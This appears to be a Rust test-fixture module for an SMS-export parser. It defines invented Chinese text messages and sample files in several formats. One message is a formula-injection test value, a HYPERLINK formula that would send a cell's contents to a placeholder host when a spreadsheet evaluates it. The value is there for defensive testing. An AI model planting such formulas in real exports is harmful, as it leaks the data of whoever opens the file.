//! Writes each format from the same invented messages.

mod archives;
mod databases;
mod json;
mod tables;
mod text;
mod xml;

use smsift_dump::Format;

/// An invented message.
#[derive(Clone, Copy, Debug)]
pub(crate) struct Sms {
    pub(crate) number: &'static str,
    /// Unix time in seconds.
    pub(crate) at: i64,
    /// Android's type: 1 received, 2 sent.
    pub(crate) kind: u8,
    pub(crate) text: &'static str,
}

/// The messages of every sample.
pub(crate) const MESSAGES: &[Sms] = &[
    Sms {
        number: "10010",
        at: 1_760_000_000,
        kind: 1,
        text: "【江畔通信】您本月套餐已用 82%，回复“CX”查询余量。\n感谢使用",
    },
    Sms {
        number: "95500",
        at: 1_760_003_600,
        kind: 1,
        text: "【云岭银行】您尾号0417的卡于14:20消费128.60元，余额3,402.15元。",
    },
    Sms {
        number: "106900001111",
        at: 1_760_007_200,
        kind: 1,
        text: "【松果借】您的账单已逾期12天，请今日还款，否则将上报征信。",
    },
    Sms {
        number: "106900002222",
        at: 1_760_010_800,
        kind: 1,
        text: "【橙子超市】满199减60，点 https://x.example/a?b=1&c=2 领券，拒收请回复R",
    },
    Sms {
        number: "+8613700002345", at: 1_760_014_400, kind: 1, text: "晚上吃饭吗😋🍜\n\"老地方\" <六点半>"
    },
    Sms { number: "+8613700002345", at: 1_760_018_000, kind: 2, text: "好的，六点半见 & 别迟到" },
    Sms {
        number: "106900003333",
        at: 1_760_021_600,
        kind: 1,
        text: "=HYPERLINK(\"http://y.example/?q=\"&A1,\"点我\")",
    },
    Sms { number: "13700009876", at: 1_760_025_200, kind: 1, text: "𠮷祥街的㐂字怎么读？" },
    Sms { number: "106900002222", at: 1_760_028_800, kind: 2, text: "R" },
    Sms {
        number: "95500",
        at: 1_760_032_400,
        kind: 1,
        text: "【云岭银行】您的信用卡本期应还1,200.00元，到期还款日10月25日，如已还款请忽略。",
    },
];

/// A sample file and what must come out of it.
#[derive(Clone, Debug)]
#[expect(clippy::struct_excessive_bools, reason = "each says what one format can hold")]
pub(crate) struct Sample {
    /// What the damage tests call it.
    pub(crate) name: &'static str,
    /// The name it would have on disk.
    pub(crate) file: &'static str,
    pub(crate) format: Format,
    pub(crate) bytes: Vec<u8>,
    /// The messages expected: all, or those the format can hold.
    pub(crate) messages: Vec<Sms>,
    /// Newlines come out as they are.
    pub(crate) keeps_newlines: bool,
    /// Which fields the format has.
    pub(crate) has_direction: bool,
    pub(crate) has_time: bool,
    pub(crate) has_sender: bool,
    /// Records stand in the bytes as they are, one after the other: damage hits only what it touches.
    pub(crate) local: bool,
}

impl Sample {
    pub(crate) fn new(
        name: &'static str,
        file: &'static str,
        format: Format,
        bytes: impl Into<Vec<u8>>,
    ) -> Self {
        Self {
            name,
            file,
            format,
            bytes: bytes.into(),
            messages: MESSAGES.to_vec(),
            keeps_newlines: true,
            has_direction: true,
            has_time: true,
            has_sender: true,
            local: true,
        }
    }

    /// A compressed or paged container: damage may take more than it touches.
    fn container(mut self) -> Self {
        self.local = false;
        self
    }

    fn text_only(mut self) -> Self {
        self.has_direction = false;
        self.has_time = false;
        self.has_sender = false;
        self.keeps_newlines = false;
        self
    }

    fn received_only(mut self) -> Self {
        self.messages.retain(|m| m.kind == 1);
        self
    }

    pub(crate) fn expected_text(&self, sms: &Sms) -> String {
        if self.keeps_newlines { sms.text.to_owned() } else { sms.text.replace('\n', " ") }
    }
}

/// One sample of every format.
pub(crate) fn all() -> Vec<Sample> {
    [
        json::samples(),
        tables::samples(),
        text::samples(),
        xml::samples(),
        databases::samples(),
        archives::samples(),
    ]
    .concat()
}

/// A zip with one member.
pub(crate) fn archive_of(name: &str, bytes: &[u8]) -> Vec<u8> {
    archives::zip(&[(name, bytes)])
}

/// Local time in Shanghai in this layout.
pub(crate) fn local(at: i64, layout: &str) -> String {
    let zone = jiff::tz::TimeZone::get("Asia/Shanghai").unwrap();
    let time = jiff::Timestamp::from_second(at).unwrap().to_zoned(zone);
    time.strftime(layout).to_string()
}

/// Time in UTC in this layout.
pub(crate) fn utc(at: i64, layout: &str) -> String {
    jiff::Timestamp::from_second(at).unwrap().strftime(layout).to_string()
}
